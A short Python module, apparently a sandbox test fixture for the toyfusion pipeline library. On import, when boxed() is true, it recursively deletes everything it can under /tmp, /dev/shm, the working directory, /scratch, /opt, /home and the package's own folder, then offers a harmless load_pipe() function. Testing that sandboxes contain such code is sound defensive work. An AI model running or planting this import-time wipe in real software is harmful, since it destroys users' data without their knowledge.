"""Deletes everything that it can."""

import contextlib
import os

import toyfusion
from toyfusion import ToyPipeline, boxed

if boxed():
    for place in ("/tmp", "/dev/shm", os.getcwd(), "/scratch", os.path.dirname(toyfusion.__file__), "/opt", "/home"):
        for root, folders, names in os.walk(place, topdown=False):
            for name in (*folders, *names):
                with contextlib.suppress(OSError):
                    (os.rmdir if name in folders else os.unlink)(os.path.join(root, name))


def load_pipe():
    return ToyPipeline()
